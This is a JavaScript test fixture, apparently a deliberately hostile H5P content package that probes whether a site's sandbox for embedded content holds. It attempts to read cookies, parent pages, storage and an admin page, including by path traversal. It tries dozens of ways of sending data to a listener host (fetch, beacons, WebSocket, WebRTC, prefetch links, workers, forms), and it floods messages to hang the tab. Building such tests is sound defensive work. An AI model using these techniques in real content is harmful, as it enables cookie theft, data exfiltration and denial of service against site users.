/* What a package would do that means harm. `params.target`: host and port of somebody who listens; each attempt has a
   name of its own there. `params.site`: the site's origin. `params.only`: that one alone, for those that leave the page.
   What came of each is written into the page as JSON; nothing here may ever succeed. */
var Bdhvs = Bdhvs || {};

Bdhvs.stun = function (Connection, host) {
  var connection = new Connection({ iceServers: [
    { urls: 'stun:' + host }, { urls: 'turn:' + host + '?transport=tcp', username: 'a', credential: 'b' }
  ] });
  connection.createDataChannel('x');
  return connection.createOffer().then(function (offer) { return connection.setLocalDescription(offer); });
};
if (location.href === 'about:srcdoc') Bdhvs.stun(RTCPeerConnection, window.name);

Bdhvs.TestHostile = function (params) {
  'use strict';
  var at = function (name) { return name + '.' + params.target + '/?secret=' + name; };
  var http = function (name) { return 'http://' + at(name); };
  var add = function (tag, properties, place) {
    var element = document.createElement(tag);
    Object.keys(properties).forEach(function (key) { element[key] = properties[key]; });
    (place || document.body).appendChild(element);
    return element;
  };
  var link = function (rel, more) {
    return function (name) { return add('link', H5P.jQuery.extend({ rel: rel, href: http(name) }, more), document.head); };
  };
  var inFrame = function (html) { return add('iframe', { srcdoc: html }); };

  var fetchedByPage = function (address) {
    return new Promise(function (done) {
      var ask = function () {
        if (!port) { setTimeout(ask, 20); return; }
        port.addEventListener('message', function (event) {
          if (event.data.t === 'file' && event.data.address === address) done(event.data.bytes ? 'got' : '');
        });
        post.call(port, { t: 'file', address: address });
      };
      ask();
    });
  };

  // What it would read or run. Each gives what it got.
  var grabs = {
    cookie: function () { return document.cookie; },
    realCookie: function () {
      return Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document);
    },
    origin: function () { return String(self.origin === 'null' ? '' : self.origin); },
    parentPage: function () { return parent.document.title; },
    topPage: function () { return top.document.cookie; },
    frameElement: function () { return window.frameElement ? 'there' : ''; },
    evaluated: function () { return (0, eval)('1 + 1'); },
    newFunction: function () { return new Function('return 2')(); },
    timer: function () {
      setTimeout('window.ranFromText = 1', 0);
      return new Promise(function (done) { setTimeout(function () { done(window.ranFromText); }, 50); });
    },
    inlineHandler: function () {
      add('div', { innerHTML: '<img src="data:," onerror="window.ranInline = 1">' });
      return new Promise(function (done) { setTimeout(function () { done(window.ranInline); }, 100); });
    },
    inlineScript: function () {
      add('script', { textContent: 'window.ranScript = 1' });
      return window.ranScript;
    },
    admin: function () { return fetch(params.site + '/quan-tri/', { credentials: 'include' }).then(function (answer) { return answer.status; }); },
    page: function () { return fetch(params.site + '/', { credentials: 'include' }).then(function (answer) { return answer.status; }); },
    adminFrame: function () {
      var frame = add('iframe', { src: params.site + '/quan-tri/' });
      return new Promise(function (done) {
        frame.onload = function () { try { done(frame.contentDocument.title); } catch (error) { done(''); } };
        setTimeout(function () { done(''); }, 500);
      });
    },
    siteScript: function () {
      return new Promise(function (done) {
        var script = add('script', { src: params.site + '/static/bdhvs_theme/quiz.js' });
        script.onload = function () { done('loaded'); };
        script.onerror = function () { done(''); };
      });
    },
    popup: function () { return window.open(http('popup')) ? 'opened' : ''; },
    storage: function () {
      return Object.getOwnPropertyDescriptor(Storage.prototype, 'length').get.call(window.localStorage);
    },
    // By the page, which fetches files for its frame: what no cookie is needed for, and of this site's programs only.
    pageFetches: function () { return fetchedByPage(params.site + '/quan-tri/'); },
    pageFetchesBack: function () { return fetchedByPage(H5PIntegration.loadedJs[0].replace(/[^/]*$/, '../../quan-tri/')); },
    pageFetchesHidden: function () { return fetchedByPage(H5PIntegration.loadedJs[0].replace(/[^/]*$/, '%2e%2e/%2e%2e/quan-tri/')); },
    pageFetchesAway: function () { return fetchedByPage(http('pagefile')); },
    pageFetchesData: function () { return fetchedByPage('data:text/plain,secret'); },
    database: function () {
      return new Promise(function (done) {
        var asked = indexedDB.open('x');
        asked.onsuccess = function () { done('opened'); };
        asked.onerror = function () { done(''); };
      });
    },
    worker: function () { return navigator.serviceWorker.register(http('serviceworker')).then(function () { return 'there'; }); }
  };
  // What it would tell somebody else.
  var leaks = {
    fetch: function (name) { return fetch(http(name), { mode: 'no-cors', method: 'POST', body: 'secret' }); },
    xhr: function (name) { var x = new XMLHttpRequest(); x.open('GET', http(name)); x.send(); },
    jquery: function (name) { H5P.jQuery.post(http(name), { secret: 1 }); },
    beacon: function (name) { return navigator.sendBeacon(http(name), 'secret'); },
    websocket: function (name) { new WebSocket('ws://' + at(name)); },
    eventsource: function (name) { new EventSource(http(name)); },
    transport: function (name) { return new WebTransport('https://' + at(name)).ready; },
    fetchlater: function (name) { fetchLater('https://' + at(name)); },
    image: function (name) { new Image().src = http(name); },
    picture: function (name) { add('div', { innerHTML: '<picture><source srcset="' + http(name) + '"><img></picture>' }); },
    video: function (name) { add('video', { src: http(name), poster: http(name) }); },
    track: function (name) { add('video', { innerHTML: '<track default src="' + http(name) + '">' }); },
    script: function (name) { add('script', { src: http(name) }); },
    module: function (name) { return import(http(name)); },
    style: function (name) { add('link', { rel: 'stylesheet', href: http(name) }); },
    import: function (name) { add('style', { textContent: '@import "' + http(name) + '";' }); },
    background: function (name) { document.body.style.backgroundImage = 'url(' + http(name) + ')'; },
    font: function (name) { return new FontFace('x', 'url(' + http(name) + ')').load(); },
    svg: function (name) { add('div', { innerHTML: '<svg><use href="' + http(name) + '#a"/><image href="' + http(name) + '"/></svg>' }); },
    object: function (name) { add('object', { data: http(name) }); },
    embed: function (name) { add('embed', { src: http(name) }); },
    frame: function (name) { add('iframe', { src: http(name) }); },
    blankframe: function (name) { add('iframe', {}).contentWindow.location = http(name); },
    srcdoc: function (name) { inFrame('<img src="' + http(name) + '"><link rel="dns-prefetch" href="' + http(name + '-dns') + '">'); },
    refreshed: function (name) { inFrame('<meta http-equiv="refresh" content="0;url=' + http(name) + '">'); },
    form: function (name) { add('form', { action: http(name), method: 'post', innerHTML: '<input name="secret" value="1">' }).submit(); },
    dnsprefetch: link('dns-prefetch'),
    preconnect: link('preconnect'),
    prefetch: link('prefetch'),
    preload: link('preload', { as: 'image' }),
    modulepreload: link('modulepreload'),
    prerender: link('prerender'),
    icon: link('icon'),
    manifest: link('manifest'),
    speculation: function (name) {
      add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [http(name)] }] }) });
    },
    written: function (name) {
      // Looked at by the parser, before any script could take it out again.
      add('div', { innerHTML: '<link rel="dns-prefetch" href="' + http(name) + '"><link rel="preconnect" href="' + http(name) + '">' });
    },
    ping: function (name) { add('a', { href: '#', ping: http(name) }).click(); },
    blank: function (name) { add('a', { href: http(name), target: '_blank' }).click(); },
    base: function (name) { add('base', { href: http(name) }, document.head); new Image().src = 'x.png'; },
    blobworker: function (name) {
      var code = 'fetch("' + http(name) + '", {mode: "no-cors"}).catch(function () {}); try { importScripts("' + http(name) + '"); } catch (e) {}';
      new Worker(URL.createObjectURL(new Blob([code])));
    },
    sharedworker: function (name) { new SharedWorker(http(name)); },
    worklet: function (name) { return CSS.paintWorklet.addModule(http(name)); },
    webrtc: function (name) { return Bdhvs.stun(RTCPeerConnection, name + '.' + params.target); },
    webrtcblank: function (name) { return Bdhvs.stun(add('iframe', {}).contentWindow.RTCPeerConnection, name + '.' + params.target); },
    top: function (name) { top.location = http(name); },
    parent: function (name) { parent.location.href = http(name); },
    toplink: function (name) { add('a', { href: http(name), target: '_top' }).click(); }
  };
  // Those after which there is no page to go on in: one at a time.
  var departures = {
    location: function (name) { location = http(name); },
    replace: function (name) { location.replace(http(name)); },
    link: function (name) { add('a', { href: http(name) }).click(); },
    download: function (name) { add('a', { href: http(name), download: 'x' }).click(); },
    refresh: function (name) { add('meta', { httpEquiv: 'refresh', content: '0;url=' + http(name) }, document.head); },
    data: function (name) { location = 'data:text/html,<img src=' + http(name) + '>'; },
    blob: function (name) { location = URL.createObjectURL(new Blob(['<img src=' + http(name) + '>'], { type: 'text/html' })); },
    script: function (name) { location = 'javascript:void (new Image().src = "' + http(name) + '")'; },
    admin: function () { location = params.site + '/quan-tri/'; },
    webrtcsrcdoc: function (name) {
      // A fresh window, from which nothing was taken away: this very file runs there, as a script that is allowed.
      add('iframe', { name: name + '.' + params.target, srcdoc: '<script src="' + H5PIntegration.loadedJs[1] + '"><\/script>' });
    }
  };

  // What would take the tab: params.flood names one. The port is everybody's who changes how things are posted.
  var port = null, post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function () { port = this; return post.apply(this, arguments); };
  var tell = function (message) { post.call(port, message); };
  var statement = function (n) {
    return { verb: { id: 'http://adlnet.gov/expapi/verbs/progressed' }, object: { id: 'https://h5p.invalid/activity' }, n: n };
  };
  var floods = {
    statements: function () { for (var n = 0; n < 20000; n++) tell({ t: 'statement', n: n, s: statement(n) }); },
    touches: function () {
      for (var n = 0; n < 500; n++) {
        tell({ t: 'statement', n: n, s: { verb: { id: 'http://adlnet.gov/expapi/verbs/interacted' }, object: { id: 'https://h5p.invalid/activity' } } });
      }
    },
    states: function () { for (var n = 0; n < 20000; n++) tell({ t: 'state', kind: 'k' + n, part: '0', data: '"' + n + '"' }); },
    heights: function () { for (var n = 0; n < 20000; n++) tell({ t: 'size', h: 100 + n % 700 }); },
    nonsense: function () { for (var n = 0; n < 20000; n++) tell(n % 2 ? null : { t: 'nothing', n: n }); },
    large: function () { for (var n = 0; n < 20; n++) tell({ t: 'statement', n: n, s: { verb: new Array(1e6).join('x') } }); },
    tall: function () { document.body.style.height = '30000px'; },
    // Higher than the frame, whatever the frame is.
    growing: function () { document.body.style.height = 'calc(100vh + 40px)'; }
  };

  this.attach = function ($container) {
    if (params.flood) {
      $container.append('<p>…</p>');
      // Once it has started, and the page knows it.
      setTimeout(function () { floods[params.flood](); console.info('flooded by ' + params.flood); }, 1500);
      return;
    }
    $container.addClass('bdhvs-test-hostile').append('<pre id="results">…</pre>');
    var results = {};
    var note = function (name, value) { results[name] = value === undefined || value === '' || value === 0 ? '' : String(value); };
    if (params.only) {
      // Once it has started: what the page around it does by then is done.
      setTimeout(function () {
        console.info('leaving by ' + params.only);
        departures[params.only](params.only);
      }, 100);
      return;
    }
    var waiting = Object.keys(grabs).map(function (name) {
      return Promise.resolve().then(grabs[name]).then(
        function (value) { note(name, value); }, function () { note(name, ''); }
      );
    });
    Object.keys(leaks).forEach(function (name) {
      Promise.resolve().then(function () { return leaks[name](name); }).catch(function () {});
    });
    Promise.all(waiting).then(function () { $container.find('#results').text(JSON.stringify(results)); });
  };
};
